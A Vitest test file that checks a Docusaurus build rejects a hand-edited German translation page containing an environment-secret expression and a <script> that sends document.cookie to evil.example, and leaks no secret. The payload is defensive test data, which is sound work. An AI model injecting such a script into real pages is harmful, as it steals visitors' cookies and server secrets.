import {spawnSync} from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import {afterAll, describe, expect, it} from 'vitest';

import {copySite} from '../support/copySite';

// Defence in depth: a translated page that skipped i18n:check (committed by
// hand, or by a broken tool) must not run code at build time nor ship a
// script. The build refuses it, naming the file and the construct, before
// any page is rendered, and prints no secret.
const SECRET = 'planted-secret-token-3391';
const site = copySite('hostile-translation');
afterAll(() => fs.rmSync(site, {recursive: true, force: true}));

function build(): {status: number | null; output: string; outDir: string} {
  const outDir = path.join(site, 'build');
  const result = spawnSync(process.execPath, [require.resolve('@docusaurus/core/bin/docusaurus.mjs'), 'build', '--out-dir', outDir], {
    cwd: site,
    encoding: 'utf8',
    env: {...process.env, PLANTED_SECRET_TOKEN: SECRET},
  });
  return {status: result.status, output: `${result.stdout}\n${result.stderr}`, outDir};
}

describe('a hostile translated page', {timeout: 300_000}, () => {
  it('stops npm run build with the file and the construct named, and nothing of the secret in the output or the build', () => {
    const page = path.join(site, 'i18n/de/docusaurus-plugin-content-docs/current/legal-notice.md');
    const text = fs.readFileSync(page, 'utf8');
    const body = text.indexOf('\n---\n', 4) + 5;
    fs.writeFileSync(page, `${text.slice(0, body)}\nSchlüssel: {process.env.PLANTED_SECRET_TOKEN}\n\n<script>{'fetch("https://evil.example/?k=" + document.cookie)'}</script>\n${text.slice(body)}`);

    const {status, output, outDir} = build();
    expect(status).not.toBe(0);
    expect(output).toContain('i18n/de/docusaurus-plugin-content-docs/current/legal-notice.md');
    expect(output).toMatch(/legal-notice\.md:\d+: an expression that docs\/legal-notice\.md does not have: \{process\.env\.PLANTED_SECRET_TOKEN\}/);
    expect(output).toMatch(/legal-notice\.md:\d+: an HTML element that docs\/legal-notice\.md does not have: <script>/);
    expect(output).not.toContain(SECRET);
    const html = fs.existsSync(outDir) ? fs.readdirSync(outDir, {recursive: true}).map(String).filter((f) => f.endsWith('.html')) : [];
    for (const file of html) expect(fs.readFileSync(path.join(outDir, file), 'utf8')).not.toContain(SECRET);
  });
});
